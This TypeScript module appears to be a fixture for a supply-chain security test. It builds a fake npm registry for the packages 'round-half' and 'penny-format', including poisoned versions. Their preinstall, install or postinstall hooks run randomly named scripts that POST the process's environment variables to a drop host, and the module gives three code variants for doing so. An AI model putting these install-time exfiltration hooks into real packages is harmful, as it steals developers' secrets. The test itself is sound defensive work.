import { type CheckContext, digits, hex, type PublishedVersion, type Random } from '../../server/kit.ts';

/** The packages of the story, and what attackers make of them. */

export const registry = 'npm.larkspur-tills.example';
/** The authors of round-half count installations there. Harmless, and code that nobody at Larkspur has read. */
export const counter = 'installs.round-half.example';

const roundHalf = (version: string, published: string): PublishedVersion => ({
  name: 'round-half',
  version,
  published,
  scripts: { postinstall: 'node count.js' },
  files: {
    'index.js': `'use strict';

// Half to even, as banks do.
module.exports = (number) => {
  const floor = Math.floor(number);
  const rest = number - floor;
  if (rest !== 0.5) return Math.round(number);
  return floor % 2 === 0 ? floor : floor + 1;
};
`,
    'count.js': `fetch('https://${counter}/${version}', { method: 'POST' }).catch(() => {});\n`,
  },
});

const pennyFormat = (version: string, published: string): PublishedVersion => ({
  name: 'penny-format',
  version,
  published,
  dependencies: { 'round-half': '^2.0.0' },
  files: {
    'index.js': `'use strict';
const round = require('round-half');

/** format(123450, 'EUR') is '1,234.50 EUR' */
module.exports = function format(cents, currency) {
  const digits = String(round(cents)).padStart(3, '0');
  const whole = digits.slice(0, -2).replace(/\\B(?=(\\d{3})+$)/g, ',');
  return \`\${whole}.\${digits.slice(-2)} \${currency}\`;
};
`,
    'README.md': '# penny-format\n\nCents as text.\n',
  },
});

export const half = roundHalf('2.0.1', '2025-11-04T08:12:00.000Z');
export const good = pennyFormat('1.4.2', '2026-04-14T15:20:00.000Z');
const older = [
  pennyFormat('1.4.0', '2025-12-01T09:00:00.000Z'),
  pennyFormat('1.4.1', '2026-02-11T10:30:00.000Z'),
  roundHalf('2.0.0', '2025-06-23T07:00:00.000Z'),
];

/** The version that phoned home: nothing but its installation differs from 1.4.2. */
export const phoning = (drop: string): PublishedVersion => ({
  ...good,
  version: '1.4.3',
  published: '2026-05-19T02:41:00.000Z',
  scripts: { preinstall: 'node setup.js' },
  files: { ...good.files, 'setup.js': `${posting(drop, 'penny-format@1.4.3', 0)}\n` },
});

/** What the registry has when the account is made. */
export const published = (drop: string): PublishedVersion[] => [...older, half, good, phoning(drop)];

/** Three ways to send the variables of the process away. */
function posting(drop: string, from: string, way: number): string {
  const url = `https://${drop}/${from}`;
  if (way === 0) return `fetch('${url}', { method: 'POST', body: JSON.stringify(process.env) }).catch(() => {});`;
  if (way === 1)
    return `const r = require('https').request('${url}', { method: 'POST' }); r.on('error', () => {}); r.end(JSON.stringify(process.env));`;
  return `const { stdout } = require('child_process').spawnSync(process.execPath, ['-p', 'JSON.stringify(process.env)']); fetch('${url}', { method: 'POST', body: stdout }).catch(() => {});`;
}

/** A version that attackers publish: with an installation that posts, and code that can be told from everybody else's. */
function poisoned(base: PublishedVersion, version: string, ctx: CheckContext, marker: string): PublishedVersion {
  const hook = pick(ctx.random, ['preinstall', 'install', 'postinstall']);
  const from = `${base.name}@${version}`;
  const script = posting(ctx.secrets.drop!, from, ctx.random.bytes(1)[0]! % 3);
  const file = `${hex(ctx.random, 6)}.js`;
  return {
    ...base,
    version,
    published: new Date(ctx.cloud.clock.now() - 2 * 3_600_000).toISOString(),
    scripts: { [hook]: `node ${file}` },
    files: {
      ...base.files,
      'index.js': `${base.files['index.js']}module.exports.build = '${marker}';\n`,
      [file]: `${script}\n`,
    },
  };
}

/** Newer versions of both packages that every range of today would take. */
export const newer = (ctx: CheckContext, marker: string): PublishedVersion[] => {
  const step = 4 + Number(digits(ctx.random, 1));
  return [
    poisoned(good, `1.4.${step}`, ctx, marker),
    poisoned(good, `1.${step + 1}.0`, ctx, marker),
    poisoned(half, `2.0.${step}`, ctx, marker),
  ];
};

/** Other bytes under the numbers that are there: whoever has the registry, or an author's account elsewhere, can do it. */
export const replaced = (ctx: CheckContext, marker: string): PublishedVersion[] =>
  [...older, half, good].map((each) => ({
    ...poisoned(each, each.version, ctx, marker),
    published: each.published,
  }));

const pick = (random: Random, from: string[]): string => from[random.bytes(1)[0]! % from.length]!;
